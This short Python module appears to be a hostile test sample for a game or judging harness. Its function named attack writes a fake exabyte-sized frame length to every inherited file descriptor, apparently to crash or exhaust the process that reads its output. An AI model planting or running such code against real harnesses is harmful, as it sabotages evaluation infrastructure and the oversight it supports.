"""Announces a frame of an exabyte."""

EARNS = 0


def attack(places):
    import os
    for n in range(3, 64):
        try:
            os.write(n, (1 << 60).to_bytes(8, 'little'))
        except OSError:
            continue
